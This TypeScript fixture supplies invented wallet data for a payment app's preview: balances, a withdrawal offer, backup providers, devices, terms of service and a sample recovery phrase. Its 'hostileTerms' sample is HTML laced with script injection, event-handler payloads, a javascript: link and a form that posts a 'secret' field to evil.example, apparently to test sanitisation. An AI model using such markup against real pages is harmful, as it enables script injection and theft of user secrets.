/** Invented people, banks and amounts for the preview. */
import type { DeviceView, Provider } from "../../src/api/keeping-views.ts";
import type { BackupState, Balance, Home, Tos, WithdrawalOffer } from "../../src/api/views.ts";
import { alpenBank, alpenExchange, older, received } from "./invented-events.ts";
import { ago, day, hour, minute } from "./moment.ts";

export const chf: Balance = { currency: "CHF", available: "CHF:84.2", incoming: "CHF:0" };

export const kudos: Balance = {
  currency: "KUDOS",
  available: "KUDOS:12.5",
  incoming: "KUDOS:5",
  style: { name: "Kudos", inputDigits: 2, normalDigits: 2, trailingZeroDigits: 2, unitNames: { "0": "ク" } },
};

const backedUp: BackupState = {
  kind: "allBackedUp",
  changes: 0,
  lastBackup: ago(2 * minute),
  service: "https://backup.hafen.example/",
};

export const home: Home = {
  balances: [chf, kudos],
  backup: backedUp,
  transactions: [received, ...older],
  hasMore: false,
  isNew: false,
  asksForBackup: false,
};

export const nothingYet: Home = {
  balances: [],
  backup: { kind: "none", changes: 0 },
  transactions: [],
  hasMore: false,
  isNew: true,
  asksForBackup: false,
};

export const offer: WithdrawalOffer = {
  link: "taler://withdraw/api.alpenbank.example/taler-integration/invented",
  bank: alpenBank,
  amount: "CHF:50",
  currency: "CHF",
  exchanges: [alpenExchange],
  exchange: alpenExchange,
  effective: "CHF:49.85",
  fees: "CHF:0.1",
  rest: "CHF:0.05",
  coinCount: 12,
  isAmountFixed: true,
  isExchangeFixed: false,
  tos: "proposed",
  tosVersion: "v3",
};

export const hafen: Provider = {
  url: "https://backup.hafen.example/",
  name: "Hafen Backup",
  isActive: true,
  isPreset: true,
  annualFee: "CHF:2",
  storageLimit: 16,
  liability: "CHF:20",
  tos: "accepted",
  tosVersion: "2026-01",
  lastBackup: ago(2 * minute),
  payment: "paid",
  lastPayment: ago(263 * day),
  lastFee: "CHF:2",
  nextPayment: ago(-72 * day),
  paidUntil: ago(-102 * day),
  agreedFee: "CHF:2",
};

export const tresor: Provider = {
  ...hafen,
  url: "https://tresor.genossenschaft-ostschweiz.example/v1/",
  name: "Genossenschaft Datentresor Ostschweiz",
  isPreset: false,
  annualFee: "CHF:1.5",
  storageLimit: 8,
  lastBackup: ago(20 * hour),
  nextTry: ago(-20 * minute),
  trouble: { code: "unreachable", since: ago(19 * hour) },
};

export const freies: Provider = {
  url: "https://sync.freies-netz.example/",
  name: "Freies Netz Winterthur",
  isActive: false,
  isPreset: true,
  annualFee: "CHF:0",
  storageLimit: 1,
  liability: "CHF:0",
  tos: "proposed",
  tosVersion: "7",
};

export const unasked: Provider = {
  url: "https://archiv.nordlicht.example/",
  name: "Nordlicht Archiv",
  isActive: false,
  isPreset: true,
};

const laptop: DeviceView = {
  id: "8F3K2M9Q",
  name: "Laptop",
  isThis: true,
  isRetired: false,
  joinedAt: ago(313 * day),
};

export const devices: readonly DeviceView[] = [
  laptop,
  { ...laptop, id: "1", name: "Firefox on Windows", isThis: false, joinedAt: ago(261 * day), seenAt: ago(3 * hour) },
  { ...laptop, id: "2", name: "Old office computer", isThis: false, seenAt: ago(160 * day) },
  { ...laptop, id: "3", number: 2, isThis: false, isRetired: true, seenAt: ago(230 * day) },
  { id: "5", name: "", isThis: false, isRetired: false, joinedAt: 0, isUnreadable: true },
];

/** A stranger, and one that is back. */
export const newcomers: readonly DeviceView[] = [
  laptop,
  {
    ...{ ...laptop, id: "4", name: "Chrome on Windows", isThis: false },
    ...{ joinedAt: ago(25 * 60), news: { kind: "joined", at: ago(20 * 60) } },
  },
  {
    ...{ ...laptop, id: "3", number: 2, isThis: false },
    ...{ seenAt: ago(2 * hour), news: { kind: "returned", at: ago(2 * hour) } },
  },
];

export const retiredHere: readonly DeviceView[] = devices.map((device) => ({
  ...device,
  isRetired: device.isThis || device.isRetired,
}));

const sections = (title: string) => `# ${title}

## 1. What we store

We keep **one encrypted file** of up to 16 MB for each account. We *cannot* read it and do not know who owns it.

- The file is kept while the yearly fee is paid, and for 90 days after.
- Two copies lie in two places:
  1. Winterthur
  2. Tromsø

## 2. What it costs

The fee is 2.00 CHF for each started year, paid in advance. The price list is [on our website](https://backup.hafen.example/prices).

> There is no contract that renews by itself.

## 3. What we cannot promise

Should both copies be lost we pay back the fee of the current year; we are not liable for money that was kept in your wallet.
`;

export const markdownTerms: Tos = {
  language: "en",
  mime: "text/markdown",
  content: sections("Terms of service"),
  altLanguages: ["en", "de", "fr"],
  version: "7",
};

/** What a document must not be able to do. */
export const hostileTerms: Tos = {
  language: "en",
  mime: "text/html; charset=utf-8",
  content: `<!doctype html><html><head><title>Terms</title><style>body { display: none }</style>
    <link rel="stylesheet" href="https://evil.example/style.css"><script>document.title = "taken over"</script></head>
    <body onload="document.title = 'taken over'"><h1>Terms of this exchange</h1>
    <p>Read <a href="https://exchange.demo.example/more">more</a> or <a href="javascript:alert(1)">click here</a>.</p>
    <img src="https://evil.example/pixel.png" onerror="document.title = 'taken over'">
    <iframe src="https://evil.example/"></iframe><h4>Coins</h4>
    <ol start="3"><li>Coins that are lost are <b>gone</b>.<li>Keep a <em>backup</em>.</ol>
    <form action="https://evil.example/"><input name="secret"><button>Continue</button></form>
    <svg onload="document.title = 'taken over'"><a href="https://evil.example/"><text>x</text></a></svg>
    <table><tr><th>Fee</th><td>0.10</td></tr></table></body></html>`,
  altLanguages: [],
  version: "3",
};

/** Shown nowhere but here: it opens nothing. The words say the same as the letters. */
const letters = "DGPMQXCFN5PPQZZHHJ4XGFF3MG8NRZCYS3VGHHTM4BBTWXX4F0Y0";

const words =
  "history heart word butter nothing remove zone cover mean sea jump else beyond disagree kite bus angle deny anger quantum trash split thought over";

export const secret = {
  uris: [
    `taler://sync/backup.hafen.example#${letters}`,
    `taler://sync/tresor.genossenschaft-ostschweiz.example/v1#${letters}`,
  ],
  words: words.split(" "),
  services: [hafen.url, tresor.url],
  goodUntil: ago(-700 * day),
};
